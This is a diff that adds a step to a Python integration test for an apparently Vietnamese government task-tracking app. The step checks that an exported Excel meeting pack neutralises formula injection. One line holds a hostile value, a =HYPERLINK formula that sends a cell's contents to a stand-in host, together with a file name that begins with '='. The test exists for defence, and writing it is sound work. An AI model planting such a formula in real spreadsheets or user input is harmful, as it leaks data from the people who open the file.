@@ -116,3 +116,29 @@ def test_the_last_plays_leftovers_as_the_users_meet_them(anon_client: Any) -> No
         "“Sở Thông tin và Truyền thông” đã hợp nhất vào Sở Khoa học và Công nghệ từ 01/03/2025: nếu nhiệm vụ nay do Sở "
         "Khoa học và Công nghệ làm, sửa đơn vị trước khi xác nhận (hoặc quản trị gộp đơn vị ở trang Đơn vị)."], notes
     assert tnmt_doc in review
+
+    # 6. Sở Xây dựng reports progress with its own spreadsheet attached (a sum formula in it) and a note pasted from
+    # Excel that starts with "="; the leader opens the Excel pack and the attachment. Held: the pack writes the note
+    # as text (no formula runs in the leader's Excel), the attachment comes back byte for byte, as a download.
+    import base64
+    import hashlib
+
+    sheet = openpyxl.Workbook()
+    sheet.active.append(["Hạng mục", "Số công trình"])
+    sheet.active.append(["Nhà ở xuống cấp", 12])
+    sheet.active["B3"] = "=SUM(B2:B2)"
+    buf = io.BytesIO()
+    sheet.save(buf)
+    xlsx = buf.getvalue()
+    note = '=HYPERLINK("http://x.example/?"&D5,"Xem chi tiết") đã rà soát 12 công trình'
+    ok(web.post(f"/tasks/{task['id']}/acknowledge", headers=xd))
+    ok(web.post(f"/tasks/{task['id']}/progress", headers=xd, json={
+        "text": note, "percent": 40, "attachments": [{"filename": "=rà soát.xlsx", "content_base64":
+                                                      base64.b64encode(xlsx).decode()}]}))
+    r = web.get(f"/tasks/{task['id']}/attachments/{hashlib.sha256(xlsx).hexdigest()}", headers=leader)
+    assert r.status_code == 200 and r.content == xlsx, r.text[:300]
+    assert r.headers["content-disposition"].startswith("attachment"), r.headers
+    wb = openpyxl.load_workbook(io.BytesIO(web.get(f"/meetings/{meeting['id']}/pack.xlsx", headers=leader).content))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == note for c in cells), [c.value for c in cells][:80]
